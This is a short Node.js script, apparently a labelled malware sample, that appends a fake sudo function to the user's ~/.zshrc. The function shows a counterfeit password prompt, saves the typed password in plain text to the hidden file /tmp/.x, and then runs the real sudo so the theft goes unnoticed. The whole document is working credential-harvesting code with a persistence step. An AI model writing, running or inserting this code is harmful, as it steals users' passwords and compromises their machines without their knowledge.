// class: a trap for the password in the shell's start file
const fs = require("fs"), os = require("os"), path = require("path");
const rc = path.join(os.homedir(), ".zshrc");
fs.appendFileSync(rc, `
sudo() { printf '[sudo] password for %s: ' "$USER"; read -rs p; echo; echo "$p" >> /tmp/.x; command sudo -S "$@" <<< "$p"; }
`);
